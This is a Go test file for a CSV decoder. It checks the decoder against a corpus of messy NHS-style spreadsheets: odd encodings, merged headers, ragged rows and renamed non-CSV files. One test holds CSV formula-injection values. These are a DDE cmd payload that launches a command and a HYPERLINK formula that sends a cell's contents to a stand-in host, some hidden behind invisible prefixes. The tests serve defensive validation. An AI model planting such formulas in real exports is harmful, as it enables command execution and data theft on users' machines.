package csvfile

import (
	"encoding/json"
	"errors"
	"fmt"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
)

// corpusFile is an entry of testdata/nhs-shaped/manifest.json.
type corpusFile struct {
	File          string
	Encoding      Encoding
	Delimiter     string
	HeaderRecord  int `json:"header_record"`  // the first row of the header, blank records counted
	HeaderRecords int `json:"header_records"` // its rows; 0: one
	Columns       int
	DataRows      int `json:"data_rows"`
	Outcome       string
	Must          []string
}

// corpus reads the manifest, and holds that it and the folder list the same files.
func corpus(t *testing.T) (dir string, files []corpusFile) {
	t.Helper()
	dir = filepath.Join("..", "..", "testdata", "nhs-shaped")
	data, err := os.ReadFile(filepath.Join(dir, "manifest.json"))
	if err != nil {
		t.Fatal(err)
	}
	var manifest struct{ Files []corpusFile }
	if err := json.Unmarshal(data, &manifest); err != nil {
		t.Fatal(err)
	}
	entries, err := os.ReadDir(dir)
	if err != nil {
		t.Fatal(err)
	}
	if len(manifest.Files) != 29 || len(entries) != 30 {
		t.Fatalf("%d files in the manifest and %d in the folder; want 29, and the manifest with them", len(manifest.Files), len(entries))
	}
	return dir, manifest.Files
}

// flagged are the faults and asides that the corpus must show, by file: a record is
// named by its physical line.
var flagged = map[string][]string{
	"13_title_total_footnotes.csv": {"26 total", "28 footnote", "29 footnote"},
	"25_bare_quote_in_cell.csv":    {"5:2 bare-quote"},
	"27_backslash_escape.csv":      {"2:2 broken-quote"},
	"33_ragged_short_row.csv":      {"7:5 short-record"},
	"35_unquoted_comma_shift.csv":  {"7:8 long-record"},
	"47_truncated_mid_row.csv":     {"21:6 short-record"},
}

// noticed are the notices about whole files, by a part of each.
var noticed = map[string][]string{
	"05_utf16le_no_bom.csv":          {"utf-16le because every second byte is zero"},
	"07_mojibake_double_encoded.csv": {"seems to be encoded twice"},
	"13_title_total_footnotes.csv":   {"line 5, which is a guess; lines 1 to 3 above it are not read as data"},
	"15_merged_header_3rows.csv":     {"line 3, which is a guess; line 1 above it is not", "lines 2 to 3 are together taken for the column names"},
}

// refusals are parts of the reasons why files of the corpus are refused.
var refusals = map[string]string{
	"37_empty.csv":                  "the file is empty",
	"39_blank_lines_only.csv":       "only blank lines",
	"49_xlsx_renamed.csv":           "this is an Excel workbook or a zip archive, not a CSV file; open it in Excel and save the sheet as CSV UTF-8",
	"51_html_table_renamed.xls.csv": "this is a web page or an XML table",
}

// TestCorpus holds every file of the corpus to its entry in the manifest.
func TestCorpus(t *testing.T) {
	dir, files := corpus(t)
	for _, c := range files {
		t.Run(c.File, func(t *testing.T) {
			data, err := os.ReadFile(filepath.Join(dir, c.File))
			if err != nil {
				t.Fatal(err)
			}
			f, err := Decode(data)
			if c.Outcome == "refuse" {
				var refusal *Refusal
				if !errors.As(err, &refusal) || refusals[c.File] == "" || !strings.Contains(refusal.Reason, refusals[c.File]) {
					t.Errorf("error %v, want a refusal with %q", err, refusals[c.File])
				}
				return
			}
			if err != nil {
				t.Fatal(err)
			}
			checkCorpus(t, c, f)
		})
	}
}

func checkCorpus(t *testing.T, c corpusFile, f *File) {
	t.Helper()
	if f.Encoding != c.Encoding || string(f.Delimiter) != c.Delimiter {
		t.Errorf("%s divided by %q, want %s by %q", f.Encoding, f.Delimiter, c.Encoding, c.Delimiter)
	}
	// No header of the corpus holds a line break, so its records are its lines.
	rows := max(1, c.HeaderRecords)
	if f.HeaderRows[0].Line != c.HeaderRecord || len(f.HeaderRows) != rows || f.Header.Line != c.HeaderRecord+rows-1 {
		t.Errorf("header of %d rows from line %d to %d, want %d from %d", len(f.HeaderRows), f.HeaderRows[0].Line, f.Header.Line, rows, c.HeaderRecord)
	}
	if f.Columns != c.Columns {
		t.Errorf("%d columns, want %d", f.Columns, c.Columns)
	}
	data := 0
	var flags []string
	for rec := range f.Records() {
		if rec.Aside != "" {
			flags = append(flags, fmt.Sprintf("%d %s", rec.Line, rec.Aside))
			continue
		}
		data++
		for _, fault := range rec.Faults {
			flags = append(flags, fmt.Sprintf("%d:%d %s", fault.Line, fault.Column, fault.Kind))
		}
	}
	if data != c.DataRows {
		t.Errorf("%d rows, want %d", data, c.DataRows)
	}
	if !slices.Equal(flags, flagged[c.File]) {
		t.Errorf("flags %q, want %q", flags, flagged[c.File])
	}
	var notices []string
	if f.Guess != "" {
		notices = append(notices, f.Guess)
	}
	for _, n := range f.Notices {
		notices = append(notices, n.Message)
	}
	if !slices.EqualFunc(notices, noticed[c.File], strings.Contains) {
		t.Errorf("notices %q, want %q", notices, noticed[c.File])
	}
}

// TestCorpusCells holds the `must` sentences of the manifest that are about cells.
func TestCorpusCells(t *testing.T) {
	dir, _ := corpus(t)
	open := func(name string) (*File, []Record) {
		data, err := os.ReadFile(filepath.Join(dir, name))
		if err != nil {
			t.Fatal(err)
		}
		f := decodeString(t, string(data))
		return f, records(f)
	}
	// Cells by data row (from 1) and column (from 1).
	for _, c := range []struct {
		file        string
		row, column int
		raw, shown  string
	}{
		{"03_excel_unicode_text_utf16le.txt", 1, 5, "J Asian - Pakistani", "J Asian - Pakistani"},
		{"05_utf16le_no_bom.csv", 1, 5, "J Asian - Pakistani", "J Asian - Pakistani"},
		{"07_mojibake_double_encoded.csv", 3, 3, "CafÃ© staff Â£9k", "CafÃ© staff Â£9k"},
		{"21_nul_bytes.csv", 1, 2, "R\x00X9", "R<U+0000>X9"},
		{"21_nul_bytes.csv", 1, 7, "04/01/2013", "04/01/2013"},
		{"25_bare_quote_in_cell.csv", 4, 2, `RX"9`, `RX"9`},
		{"19_negatives.csv", 2, 2, "(12)", "(12)"},
		{"43_date_formats.csv", 1, 2, "01/02/2024", "01/02/2024"},
		{"45_formula_cells.csv", 1, 1, "=cmd|'/C calc'!A0", "=cmd|'/C calc'!A0"},
		{"45_formula_cells.csv", 5, 1, "\t=1+1", "<U+0009>=1+1"},
		{"45_formula_cells.csv", 6, 1, "\r=1+1", "<U+000D>=1+1"},
		{"45_formula_cells.csv", 8, 1, "\u200b=1+1", "<U+200B>=1+1"},
		{"45_formula_cells.csv", 9, 1, `=HYPERLINK("http://192.0.2.1/?x="&A1,"click")`, `=HYPERLINK("http://192.0.2.1/?x="&A1,"click")`},
		{"53_quoted_everything.csv", 20, 7, "10/11/2002", "10/11/2002"},
	} {
		_, recs := open(c.file)
		raw := recs[c.row-1].Value(c.column - 1)
		if raw != c.raw || Clean(raw) != c.shown {
			t.Errorf("%s row %d column %d: %q, shown %q; want %q, %q", c.file, c.row, c.column, raw, Clean(raw), c.raw, c.shown)
		}
	}
	// Every column of file 15 is named by its year and group.
	f, _ := open("15_merged_header_3rows.csv")
	want := []string{"Pay band", "2024 White", "2024 BME", "2024 Unknown", "2025 White", "2025 BME", "2025 Unknown"}
	if !slices.Equal(f.Header.Values, want) {
		t.Errorf("names %q, want %q", f.Header.Values, want)
	}
	// File 55 names one column twice but for a space.
	f, _ = open("55_lookalike_columns.csv")
	if f.Header.Values[1] == f.Header.Values[2] || Fold(f.Header.Values[1]) != Fold(f.Header.Values[2]) {
		t.Errorf("names %q, want two that look alike", f.Header.Values)
	}
	// A row that is shifted or cut off keeps its cells where they stand.
	_, recs := open("35_unquoted_comma_shift.csv")
	if !recs[5].Refused() || recs[5].Value(2) != " Site B" || recs[5].Value(4) != "Band 7" {
		t.Errorf("row 6 is %+v", recs[5])
	}
	if _, recs = open("33_ragged_short_row.csv"); !recs[5].Refused() || recs[5].Value(4) != "" {
		t.Errorf("row 6 is %+v", recs[5])
	}
}
